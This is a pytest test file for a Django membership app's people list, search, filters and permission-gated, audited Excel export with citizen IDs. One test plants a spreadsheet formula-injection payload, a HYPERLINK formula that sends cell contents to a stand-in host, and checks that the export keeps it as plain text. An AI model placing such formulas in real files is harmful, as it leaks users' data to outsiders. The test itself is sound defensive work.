"""The people list, its search-as-you-type and its Excel export, with the named cast."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tochuc.accounts.models import Role
from tochuc.audit.models import AuditEvent
from tochuc.conftest import login, make_user
from tochuc.orgunits.models import OrgUnit
from tochuc.people import views
from tochuc.people.models import Person
from tochuc.people.services import person_create

pytestmark = pytest.mark.django_db

CIDS = ["001080012345", "001180012346", "038075000111", "040090000222"]


def _person(unit, code, name, born, gender="male", cid="", ethnicity="Kinh", status="full"):
    return person_create(
        actor=None,
        unit=unit,
        code=code,
        values={
            "full_name": name,
            "birth_date": born,
            "gender": gender,
            "citizen_id": cid,
            "ethnicity": ethnicity,
        },
        membership={"status": status},
    )


@pytest.fixture
def people(tree):
    return [
        _person(tree.cell, "P1", "Trần Thị Bình", dt.date(1985, 2, 3), "female", CIDS[1], "Tày"),
        _person(tree.cell, "P2", "Nguyễn Văn An", dt.date(1980, 5, 1), cid=CIDS[0]),
        _person(tree.commune2, "P3", "Lê Đức Anh", dt.date(1975, 7, 9), cid=CIDS[2], status="probationary"),
        _person(tree.other_cell, "Q1", "Nguyễn Văn An", dt.date(1980, 5, 1), cid=CIDS[3]),
    ]


def _names(response) -> list[str]:
    return [p.full_name for p in response.context["page"].object_list]


@pytest.mark.parametrize("name", ["people:list", "people:export"])
def test_anonymous_is_sent_to_login(client: Client, tree, name):
    response = client.get(reverse(name))
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_list_is_scoped_and_sorted_the_vietnamese_way(people, inside, outside):
    response = login(inside).get(reverse("people:list"))
    assert response.status_code == 200
    assert _names(response) == ["Nguyễn Văn An", "Lê Đức Anh", "Trần Thị Bình"]
    page = response.content.decode()
    # The outside person (same name as an inside one) has no link on the page.
    link = 'href="{}"'.format
    assert "3 người" in page and link(reverse("people:detail", args=["P2"])) in page
    assert link(reverse("people:detail", args=["Q1"])) not in page
    assert [p.code for p in login(outside).get(reverse("people:list")).context["page"].object_list] == ["Q1"]


def test_citizen_id_is_never_in_the_list(people, inside):
    client = login(inside)
    for response in (
        client.get(reverse("people:list")),
        client.get(reverse("people:list"), {"q": "nguyen"}, HTTP_HX_REQUEST="true"),
        client.get(reverse("people:list"), {"q": "1234"}),
    ):
        for cid in CIDS:
            assert cid.encode() not in response.content


def test_search_without_diacritics_and_by_birth_year(people, inside):
    client = login(inside)
    assert _names(client.get(reverse("people:list"), {"q": "nguyen an 1980"})) == ["Nguyễn Văn An"]
    assert _names(client.get(reverse("people:list"), {"q": "DUC"})) == ["Lê Đức Anh"]
    assert _names(client.get(reverse("people:list"), {"q": "an"})) == ["Nguyễn Văn An", "Lê Đức Anh"]


def test_a_common_name_is_counted_up_to_a_limit_and_the_page_says_so(people, inside, outside, monkeypatch):
    from tochuc.people import search, selectors

    monkeypatch.setattr(search, "RARE_BELOW", 1)  # every word common, as "an" is in a province
    monkeypatch.setattr(selectors, "SEARCH_COUNT_LIMIT", 1)
    response = login(inside).get(reverse("people:list"), {"q": "an"})
    page = response.content.decode()
    assert "Hơn 1 người — thêm họ, tên đệm hoặc năm sinh để thu hẹp" in page
    assert "Hiển thị 1–1 trong hơn 1" in page
    assert _names(response) == ["Nguyễn Văn An"]  # one page up to the limit, in name order
    # The other province has one "an": counted exactly, its own only.
    other = login(outside).get(reverse("people:list"), {"q": "an"}).content.decode()
    assert "1 người" in other and "Hơn" not in other


def test_htmx_search_returns_only_the_results(people, inside):
    response = login(inside).get(reverse("people:list"), {"q": "binh"}, HTTP_HX_REQUEST="true")
    page = response.content.decode()
    assert "<html" not in page and "Trần Thị Bình" in page and "Nguyễn Văn An" not in page
    assert "export.xlsx?q=binh" in page


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"unit": "T01-X02"}, ["Lê Đức Anh"]),
        ({"unit": "t01-x01"}, ["Nguyễn Văn An", "Trần Thị Bình"]),
        ({"gender": "female"}, ["Trần Thị Bình"]),
        ({"ethnicity": "Tày"}, ["Trần Thị Bình"]),
        ({"membership_status": "probationary"}, ["Lê Đức Anh"]),
        ({"political_theory_level": "advanced"}, []),
    ],
)
def test_filters(people, inside, params, expected):
    assert _names(login(inside).get(reverse("people:list"), params)) == expected


def test_age_band_filter(people, inside):
    today = dt.date.today()
    _person(people[0].unit, "P9", "Hà Minh Châu", today.replace(year=today.year - 25), "female")
    assert _names(login(inside).get(reverse("people:list"), {"age_band": "lt30"})) == ["Hà Minh Châu"]


def test_unit_outside_scope_is_a_message_not_a_leak(people, inside):
    response = login(inside).get(reverse("people:list"), {"unit": "T02"})
    page = response.content.decode()
    assert response.status_code == 200 and "Không tìm thấy đơn vị «T02»" in page
    assert _names(response) == []


def test_empty_states_say_what_to_do(tree, inside):
    page = login(inside).get(reverse("people:list")).content.decode()
    assert "Chưa có hồ sơ đảng viên nào" in page and "Excel" in page
    page = login(inside).get(reverse("people:list"), {"q": "khong co ai"}).content.decode()
    assert "Không có ai khớp" in page


def test_query_count_does_not_grow_with_rows(tree, inside, django_assert_max_num_queries):
    for i in range(60):
        _person(
            tree.cell if i % 2 else tree.commune2, f"N{i:03d}", f"Nguyễn Văn Tên{i:03d}", dt.date(1980, 1, 1)
        )
    client = login(inside)
    client.get(reverse("people:list"))  # warm the session
    with django_assert_max_num_queries(12):
        response = client.get(reverse("people:list"))
    assert len(response.context["page"].object_list) == 50
    with django_assert_max_num_queries(12):
        client.get(
            reverse("people:list"), {"q": "nguyen", "gender": "male", "unit": "T01"}, HTTP_HX_REQUEST="true"
        )


def _workbook(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_export_without_reveal_permission_has_no_citizen_id_column(tree, people):
    viewer = make_user("viewer", Role.VIEWER, tree.province)
    response = login(viewer).get(reverse("people:export"), {"q": "nguyen"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = _workbook(response)
    rows = list(sheet.iter_rows(values_only=True))
    assert "Số CCCD" not in rows[0]
    assert [r[1] for r in rows[1:]] == ["Nguyễn Văn An"]
    for cid in CIDS:
        assert all(cid not in str(v) for row in rows for v in row)
    event = AuditEvent.objects.get(action="person.export")
    assert event.summary == {"filters": {"q": "nguyen"}, "rows": 1, "citizen_id": False}


def _headers(response):
    return next(_workbook(response).iter_rows(values_only=True))


def test_export_leaves_the_citizen_id_column_out_by_default(people, leader):
    response = login(leader).get(reverse("people:export"))  # may reveal the people of one commune
    rows = list(_workbook(response).iter_rows(values_only=True))
    assert "Số CCCD" not in rows[0] and len(rows) == 3
    assert all(cid not in str(v) for row in rows for v in row for cid in CIDS)
    event = AuditEvent.objects.get(action="person.export")
    assert event.summary == {"filters": {}, "rows": 2, "citizen_id": False}


def test_export_with_citizen_ids_asks_a_reason_and_is_audited_like_a_reveal(people, tree, leader):
    client = login(leader)
    page = client.get(reverse("people:list")).content.decode()
    assert 'data-testid="export-cid"' in page
    refused = client.post(reverse("people:export"), {"reason": "x"}, follow=True)
    assert "Cần ghi rõ lý do" in refused.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="person.export").exists()
    reason = "Đối chiếu hồ sơ chuyển sinh hoạt đảng"
    response = client.post(reverse("people:export"), {"reason": reason})
    rows = list(_workbook(response).iter_rows(values_only=True))
    column = rows[0].index("Số CCCD")
    assert sorted(r[column] for r in rows[1:]) == sorted(CIDS[:2])
    event = AuditEvent.objects.get(action="person.export_citizen_ids")
    assert event.actor_id == leader.pk
    assert event.summary == {
        "filters": {},
        "rows": 2,
        "citizen_id": True,
        "citizen_ids": 2,
        "reason": reason,
    }
    assert not AuditEvent.objects.filter(action="person.export").exists()


def test_export_with_citizen_ids_only_when_every_row_may_be_revealed(people, tree):
    # A viewer of the province who also leads one commune may not reveal the other commune's people.
    mixed = make_user("mixed", Role.VIEWER, tree.province)
    from tochuc.accounts.services import grant_role

    grant_role(actor=None, user=mixed, role=Role.LEADER, unit=tree.commune)
    client = login(mixed)
    reason = {"reason": "Rà soát danh sách dự bị"}
    refused = client.post(reverse("people:export"), reason, follow=True)
    assert "Bạn không được xem số CCCD của mọi người" in refused.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="person.export").exists()
    narrowed = client.post(reverse("people:export") + f"?unit={tree.commune.code}", reason)
    assert "Số CCCD" in _headers(narrowed)
    assert AuditEvent.objects.get(action="person.export_citizen_ids").summary["citizen_ids"] == 2


def test_a_viewer_is_not_offered_the_citizen_id_export(people, tree):
    viewer = make_user("viewer", Role.VIEWER, tree.province)
    client = login(viewer)
    assert 'data-testid="export-cid"' not in client.get(reverse("people:list")).content.decode()
    refused = client.post(reverse("people:export"), {"reason": "Đối chiếu hồ sơ"}, follow=True)
    assert "Bạn không được xem số CCCD" in refused.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="person.export").exists()


def test_export_keeps_formula_like_text_as_text(tree, inside):
    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
    OrgUnit.objects.filter(pk=tree.cell.pk).update(name="=1+1")
    person = _person(tree.cell, "F1", "Phạm Văn Phú", dt.date(1990, 1, 1), ethnicity="@x")
    Person.objects.filter(pk=person.pk).update(
        current_post=hyperlink, professional_qualification="+1", residence="-2"
    )
    response = login(inside).get(reverse("people:export"))
    sheet = _workbook(response)
    header = [cell.value for cell in sheet[1]]
    row = {header[i]: cell for i, cell in enumerate(sheet[2])}
    assert row["Đơn vị"].value == "=1+1"
    assert row["Chức vụ hiện tại"].value == hyperlink
    assert row["Trình độ chuyên môn"].value == "+1"
    assert row["Dân tộc"].value == "@x"
    for name in ("Đơn vị", "Chức vụ hiện tại", "Trình độ chuyên môn", "Dân tộc"):
        assert row[name].data_type == "s", name
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


def test_export_above_the_cap_is_refused_with_a_message(people, inside, monkeypatch):
    monkeypatch.setattr(views, "EXPORT_ROW_CAP", 1)
    response = login(inside).get(reverse("people:export"), {"gender": "male"}, follow=True)
    page = response.content.decode()
    assert "Danh sách có 2 người, vượt giới hạn 1 dòng" in page
    assert not AuditEvent.objects.filter(action="person.export").exists()
    response = login(inside).get(reverse("people:export"), {"gender": "male"})
    assert response.status_code == 302 and "gender=male" in response["Location"]
